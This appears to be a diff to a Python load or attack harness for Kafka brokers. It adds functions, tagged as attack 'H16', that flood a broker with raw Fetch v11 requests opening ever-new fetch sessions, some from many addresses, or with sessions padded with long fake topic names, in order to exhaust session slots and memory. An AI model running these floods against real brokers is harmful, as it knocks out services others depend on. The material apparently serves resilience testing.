@@ -521,3 +521,42 @@ def polls_left(target, until):
         line.socket.sendall(payload)
         line.close()
     return repeat(target, until, poll_and_leave)
+
+
+def session_body(session, epoch, topic, numbers, forgotten=()):
+    """Of Fetch 11: partitions of a topic from offset 0 on, and numbers of some to forget."""
+    parts = [struct.pack(">iiqqi", n, -1, 0, -1, MB) for n in numbers]
+    gone = [string(topic) + array([struct.pack(">i", n) for n in forgotten])] if forgotten else []
+    return (struct.pack(">iiiibii", -1, 0, 1, MB, 0, session, epoch) + array([string(topic) + array(parts)])
+            + array(gone) + string(""))
+
+
+def new_sessions(target, until):
+    body = session_body(0, 0, "wide", range(WIDE))
+    return target.flood("kafka", 64, again(frame(FETCH, body, version=11)), until)
+
+
+@attack("H16", "ever new sessions of fetches", 64, prepare=wide)
+def sessions_new(target, until):
+    """Each of 1,024 partitions, and none is continued."""
+    return new_sessions(target, until)
+
+
+@attack("H16", "ever new sessions from 8 addresses", 64, prepare=wide, addresses=8)
+def sessions_new_of_many(target, until):
+    """The same from 8 addresses, which may use all places and their memory."""
+    return new_sessions(target, until)
+
+
+@attack("H16", "sessions that grow and shrink", 16, prepare=wide)
+def sessions_change(target, until):
+    """Each fetch of a session adds long names that are no topic's, or forgets what was added."""
+    def change(line):
+        answer = line.call(FETCH, session_body(0, 0, "wide", range(WIDE)), version=11)
+        session = struct.unpack(">i", answer[6:10])[0]
+        for epoch in range(1, 65):
+            name = LONG_NAME[:200] + str(epoch)
+            numbers = range(40)
+            body = session_body(session, epoch, name, numbers, numbers if epoch % 2 else ())
+            line.call(FETCH, body, version=11)
+    return repeat(target, until, change)
